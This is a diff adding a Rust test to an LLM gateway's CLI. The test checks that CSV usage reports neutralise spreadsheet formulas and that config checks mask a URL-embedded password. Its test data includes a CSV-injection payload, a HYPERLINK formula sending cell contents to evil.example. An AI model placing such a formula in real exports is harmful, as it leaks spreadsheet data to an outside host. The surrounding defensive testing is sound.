@@ -837,3 +837,62 @@ fn the_example_config_is_valid() {
         "{out}"
     );
 }
+
+/// A spreadsheet never runs what a client put in a model name: cells
+/// beginning like a formula are kept as text; `config check` shows no
+/// secret of a URL that fails to parse and warns about a short admin token.
+#[test]
+fn csv_formulas_stay_text_and_config_check_keeps_secrets() {
+    let cli = Cli::new();
+    cli.ok(&["db", "migrate"]);
+    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"gpt-4o")"#;
+    {
+        let pool = chatgate::db::open(&cli.db_url).unwrap();
+        chatgate::usage::writer::write_batch(
+            &mut pool.get().unwrap(),
+            &[
+                record("2026-11-02 10:00:00", "@alice", formula, 200, 5, 5),
+                record("2026-11-02 10:00:00", "bob", "gpt-4o", 200, 5, 5),
+            ],
+        )
+        .unwrap();
+    }
+    let csv = cli.ok(&[
+        "usage",
+        "report",
+        "--since",
+        "2026-11-01",
+        "--until",
+        "2026-11-30",
+        "--by",
+        "user,model",
+        "--format",
+        "csv",
+    ]);
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let cells: Vec<Vec<String>> = rows
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(
+        cells[0][..2],
+        ["'@alice".to_string(), format!("'{formula}")]
+    );
+    assert_eq!(cells[1][..2], ["bob", "gpt-4o"]);
+
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("chatgate.yaml");
+    std::fs::write(
+        &file,
+        "upstreams:\n  - name: gw\n    kind: openai\n    base_url: http://gw:S3cretPw@127.0.0.1:99999/v1\n    api_keys: [k]\n",
+    )
+    .unwrap();
+    let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
+    assert!(
+        err.contains("127.0.0.1:99999") && !err.contains("S3cretPw"),
+        "{err}"
+    );
+    std::fs::write(&file, "admin:\n  token: a1\n").unwrap();
+    let (_, out) = cli.ok_with_stderr(&["-c", file.to_str().unwrap(), "config", "check"]);
+    assert!(out.contains("admin.token is 2 characters long"), "{out}");
+}
